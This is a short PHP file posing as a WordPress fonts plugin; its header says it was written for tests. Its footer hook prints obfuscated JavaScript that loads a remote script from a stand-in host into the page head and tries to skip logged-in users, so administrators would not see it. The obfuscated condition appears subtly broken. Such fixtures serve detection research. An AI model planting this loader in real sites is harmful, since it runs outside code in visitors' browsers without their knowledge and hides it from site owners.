<?php
/*
Plugin Name: Core Fonts Loader
Description: footer hook that prints an obfuscated script loader (written for the tests, never run)
*/
add_action('wp_footer', function () {
    ?>
    <script>
    function _0x62e6(){var _0x369e=['cookie','split','location','referrer','https://cdn-stat.example.net/t.js','createElement','script','src','head','appendChild'];_0x62e6=function(){return _0x369e;};return _0x62e6();}
    function _0x7513(_0xb6a3,_0x1c5c){var _0x228b=_0x62e6();return _0x7513=function(_0xb6a3){_0xb6a3=_0xb6a3-0x1a0;return _0x228b[_0xb6a3];},_0x7513(_0xb6a3,_0x1c5c);}
    (function(){var _0xe23f=_0x7513,_0x992f=document[_0xe23f(0x1a5)](_0xe23f(0x1a6));_0x992f[_0xe23f(0x1a7)]=_0xe23f(0x1a4);if(document[_0xe23f(0x1a1)]&&!document[_0xe23f(0x1a0)][_0xe23f(0x1a1)]('wordpress_logged_in'))document[_0xe23f(0x1a8)][_0xe23f(0x1a9)](_0x992f);}());
    </script>
    <?php
});
